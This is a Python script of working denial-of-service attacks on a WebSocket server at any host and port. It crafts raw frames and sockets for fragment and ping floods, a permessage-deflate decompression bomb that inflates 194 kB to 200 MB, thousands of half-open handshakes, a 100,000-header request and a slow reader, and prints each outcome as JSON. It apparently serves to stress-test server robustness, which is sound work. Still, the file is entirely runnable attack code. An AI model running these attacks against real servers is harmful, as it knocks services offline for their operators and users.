"""Attacks on a WebSocket server: ``python attacks.py NAME HOST PORT [--scale F] [--seconds S]`` prints what came of it.

Each is a function that takes where the server is, how much of the whole to send (1.0 is all) and how many seconds it
may take, and returns its outcome. Sockets, and octets put together here: nothing of any WebSocket library.
"""

from __future__ import annotations

import argparse
import dataclasses
import json
import os
import resource
import select
import socket
import struct
import time
import zlib
from collections.abc import Callable

CONT, TEXT, BINARY, CLOSE, PING, PONG = 0x0, 0x1, 0x2, 0x8, 0x9, 0xA
FIN, RSV1 = 0x80, 0x40
CHUNK = 2**18

REQUEST = (
    "GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
)


@dataclasses.dataclass
class Outcome:
    """What came of an attack.

    Attributes:
        what: ``taken in``, ``closed``, ``refused`` (by HTTP), ``cut`` (no Close came), ``waits`` (it reads no more, or
            says nothing) or ``failed`` (the attack could not be made).
        code: of the Close, or the HTTP status.
        sent: octets that the server's side took.
        note: what else there is to say.
    """

    what: str
    code: int | None = None
    sent: int = 0
    note: str = ""

    def __str__(self) -> str:
        return f"{self.what}{f' {self.code}' if self.code else ''}{f', {self.note}' if self.note else ''}"


def frame(first: int, payload: bytes = b"") -> bytes:
    """A client's frame; `first` is its first octet. The masking key is four zeros: allowed, and changes nothing."""
    size = len(payload)
    head = bytes([first, 0x80 | min(size, 126)]) if size < 65536 else bytes([first, 0xFF]) + struct.pack("!Q", size)
    if 126 <= size < 65536:
        head += struct.pack("!H", size)
    return head + bytes(4) + payload


class Peer:
    """One connection to the server."""

    def __init__(self, host: str, port: int, *, small: bool = False, timeout: float = 10) -> None:
        self.sock = socket.socket()
        if small:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(timeout)
        self.sock.connect((host, port))
        self.input = bytearray()
        self.code: int | None = None  # of the Close that came; 1005 when it has none
        self.messages = 0
        self.octets = 0
        self.framed = False  # what comes are frames
        self.over = False  # nothing more will come
        self.sent = 0

    def open(self, more: str = "") -> str:
        """The opening handshake; the head of the answer."""
        self.sock.sendall(f"{REQUEST}{more}\r\n".encode())
        while b"\r\n\r\n" not in self.input:
            data = self.sock.recv(65536)
            if not data:
                raise ConnectionError("no answer to the handshake")
            self.input += data
        head, _, rest = bytes(self.input).partition(b"\r\n\r\n")
        self.input[:] = rest
        if b" 101 " not in head[:20]:
            raise ConnectionError(head.partition(b"\r\n")[0].decode("latin-1"))
        self.framed = True
        return head.decode("latin-1")

    def read(self, timeout: float) -> bool:
        """Take what comes within `timeout`; whether anything did."""
        if self.over:
            return False
        poll = select.poll()  # `select.select` knows no descriptors above 1023
        poll.register(self.sock, select.POLLIN)
        if not poll.poll(max(timeout, 0) * 1000):
            return False
        try:
            data = self.sock.recv(CHUNK)
        except OSError:
            data = b""
        if not data:
            self.over = True
            return False
        self.input += data
        if self.framed:
            self._frames()
        return True

    def _frames(self) -> None:
        data, at = self.input, 0
        while len(data) >= at + 2:
            size, start = data[at + 1] & 0x7F, at + 2
            if size >= 126:
                octets = 2 if size == 126 else 8
                if len(data) < start + octets:
                    break
                size = int.from_bytes(data[start : start + octets], "big")
                start += octets
            if len(data) < start + size:
                break
            opcode = data[at] & 0x0F
            if opcode == CLOSE:
                self.code = int.from_bytes(data[start : start + 2], "big") if size >= 2 else 1005
            elif opcode in (TEXT, BINARY, CONT):
                self.octets += size
                self.messages += data[at] >> 7
            at = start + size
        del data[:at]

    def write(self, data: bytes, deadline: float, *, reading: bool = True, step: int = CHUNK) -> bool:
        """Send all of it, and read meanwhile; whether the server's side took it all."""
        view, at = memoryview(data), 0
        self.sock.setblocking(False)
        poll = select.poll()
        poll.register(self.sock, select.POLLIN | select.POLLOUT if reading else select.POLLOUT)
        while at < len(view) and not self.over:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            try:
                count = self.sock.send(view[at : at + step])
            except BlockingIOError:
                events = poll.poll(min(left, 0.5) * 1000)
                if reading and events and events[0][1] & ~select.POLLOUT:
                    self.read(0)
                continue
            except OSError:
                while self.read(0.2):  # what it said before it went
                    pass
                self.over = True
                return False
            at += count
            self.sent += count
            if reading and step > 1 and self.code is None:
                self.read(0)
            if self.code is not None:
                return False
        return at == len(view)

    def wait(self, deadline: float, messages: int | None = None) -> None:
        """Read until the end, a Close, or so many messages."""
        while not self.over and self.code is None and (messages is None or self.messages < messages):
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.read(min(left, 0.5))

    def outcome(self, taken: bool, note: str = "") -> Outcome:
        what = "closed" if self.code is not None else "cut" if self.over else "taken in" if taken else "waits"
        return Outcome(what, self.code, self.sent, note)

    def close(self) -> None:
        self.sock.close()


Attack = Callable[[str, int, float, float], Outcome]


def _fragments(host: str, port: int, seconds: float, number: int, payload: bytes) -> Outcome:
    deadline = time.monotonic() + seconds
    peer = Peer(host, port)
    try:
        peer.open()
        piece = frame(CONT, payload)
        data = frame(TEXT, payload) + piece * (number - 1) + frame(FIN | CONT)
        peer.write(data, deadline)
        peer.wait(deadline, 1)
        return peer.outcome(peer.messages == 1)
    finally:
        peer.close()


def empty_fragments(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """10^6 empty fragments of one message."""
    return _fragments(host, port, seconds, int(1_000_000 * scale), b"")


def one_byte_fragments(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """9 x 10^5 fragments of one octet each: a message of 900 kB."""
    return _fragments(host, port, seconds, int(900_000 * scale), b"x")


def unread_pings(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """21 MB of pings from a peer that never reads."""
    deadline = time.monotonic() + min(seconds, 6)
    peer = Peer(host, port, small=True)
    try:
        peer.open()
        data = frame(FIN | PING, b"p" * 125) * int(160_000 * scale)
        taken = peer.write(data, deadline, reading=False)
        time.sleep(0.3)
        return peer.outcome(taken, f"{peer.sent / 1e6:.1f} of {len(data) / 1e6:.1f} MB")
    finally:
        peer.close()


def empty_frames(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """256 KiB of empty messages at once, three times."""
    deadline = time.monotonic() + seconds
    peer = Peer(host, port)
    try:
        peer.open()
        piece = frame(FIN | TEXT)
        number = int(2**18 * scale) // len(piece)
        for turn in range(1, 4):
            peer.write(piece * number, deadline)
            peer.wait(deadline, number * turn)
        return peer.outcome(peer.messages == 3 * number, f"{peer.messages} echoes")
    finally:
        peer.close()


def single_octets(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """5 MB octet by octet, in messages of 60 kB."""
    deadline = time.monotonic() + seconds
    peer = Peer(host, port)
    try:
        peer.open()
        number = max(int(80 * scale), 1)
        data = frame(FIN | TEXT, b"x" * 62_500)
        sent = 0
        while sent < number and peer.write(data, deadline - 2, step=1):
            sent += 1
            while peer.read(0):
                pass
        peer.wait(deadline, sent)
        return peer.outcome(peer.messages >= sent, f"{peer.sent / 1e6:.1f} MB")
    finally:
        peer.close()


def bomb(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """194 kB that inflate to 200 MB."""
    deadline = time.monotonic() + seconds
    compressor = zlib.compressobj(9, wbits=-15)
    data = b"".join(compressor.compress(bytes(2**20)) for _ in range(int(200_000_000 * scale) >> 20))
    data = (data + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4]
    peer = Peer(host, port)
    try:
        head = peer.open("Sec-WebSocket-Extensions: permessage-deflate\r\n")
        if "permessage-deflate" not in head:
            return Outcome("refused", None, 0, "no compression")
        peer.write(frame(FIN | RSV1 | TEXT, data), deadline)
        peer.wait(deadline, 1)
        return peer.outcome(peer.messages == 1)
    finally:
        peer.close()


def half_open(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """10,000 requests that are begun and not ended; then one that wants to be served."""
    deadline = time.monotonic() + seconds
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    number = int(10_000 * scale)
    waiting: dict[int, socket.socket] = {}
    epoll = select.epoll()
    try:
        for _ in range(number):
            sock = socket.socket()
            waiting[sock.fileno()] = sock
            sock.setblocking(False)
            sock.connect_ex((host, port))
            epoll.register(sock.fileno(), select.EPOLLOUT)
        begun = 0
        while begun < number and time.monotonic() < deadline - 6:  # a full backlog has them wait for their turn
            for fd, _ in epoll.poll(0.1):
                epoll.unregister(fd)
                begun += 1
                try:
                    waiting[fd].send(REQUEST.encode())
                except OSError:
                    pass  # refused, or given up already: counted below
        time.sleep(1)
        poll = select.poll()
        for sock in waiting.values():
            poll.register(sock, select.POLLIN | select.POLLHUP)
        held = number - len(poll.poll(0))
        note = f"{begun} of {number} begun, {held} held"
        before = time.monotonic()
        try:
            peer = Peer(host, port, timeout=4)
        except OSError as error:
            return Outcome("waits", None, 0, f"{note}, a newcomer does not get in: {type(error).__name__}")
        try:
            peer.open()
            peer.write(frame(FIN | TEXT, b"hello"), deadline)
            peer.wait(time.monotonic() + 3, 1)
            if peer.messages:
                note += f", a newcomer served in {(time.monotonic() - before) * 1000:.0f} ms"
            return Outcome("taken in" if peer.messages else "waits", None, 0, note)
        except OSError as error:
            return Outcome("waits", None, 0, f"{note}, a newcomer is not served: {error}")
        finally:
            peer.close()
    finally:
        epoll.close()
        for sock in waiting.values():
            sock.close()


def many_headers(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """A request with 10^5 header fields."""
    deadline = time.monotonic() + seconds
    peer = Peer(host, port)
    try:
        data = REQUEST.encode() + b"".join(b"X-%d: y\r\n" % number for number in range(int(100_000 * scale))) + b"\r\n"
        taken = peer.write(data, deadline)
        while not peer.over and b"\r\n" not in peer.input and time.monotonic() < deadline:
            peer.read(0.5)
        line = bytes(peer.input).partition(b"\r\n")[0].split()
        if len(line) > 1 and line[0].startswith(b"HTTP/") and line[1].isdigit():
            return Outcome("taken in" if line[1] == b"101" else "refused", int(line[1]), peer.sent)
        return peer.outcome(taken)
    finally:
        peer.close()


def slow_reader(host: str, port: int, scale: float, seconds: float) -> Outcome:
    """Asks for 100 MB and reads none of it."""
    deadline = time.monotonic() + seconds
    peer = Peer(host, port, small=True)
    try:
        peer.open()
        peer.write(frame(FIN | TEXT, b"flood"), deadline, reading=False)
        time.sleep(min(3 * scale, seconds))
        return Outcome("waits", None, peer.sent)
    finally:
        peer.close()


ATTACKS: dict[str, Attack] = {
    "empty-fragments": empty_fragments,
    "one-byte-fragments": one_byte_fragments,
    "unread-pings": unread_pings,
    "empty-frames": empty_frames,
    "single-octets": single_octets,
    "bomb": bomb,
    "half-open": half_open,
    "many-headers": many_headers,
    "slow-reader": slow_reader,
}


def main() -> None:
    parser = argparse.ArgumentParser(description="Attack a WebSocket server.")
    parser.add_argument("name", choices=list(ATTACKS))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--scale", type=float, default=1.0, help="how much of it (1.0: all)")
    parser.add_argument("--seconds", type=float, default=12.0, help="the time that it may take (12)")
    options = parser.parse_args()
    os.nice(10)  # who else talks to the server is not to wait for us
    try:
        outcome = ATTACKS[options.name](options.host, options.port, options.scale, options.seconds)
    except OSError as error:
        outcome = Outcome("failed", note=f"{type(error).__name__}: {error}")
    print(json.dumps(dataclasses.asdict(outcome)), flush=True)


if __name__ == "__main__":
    main()
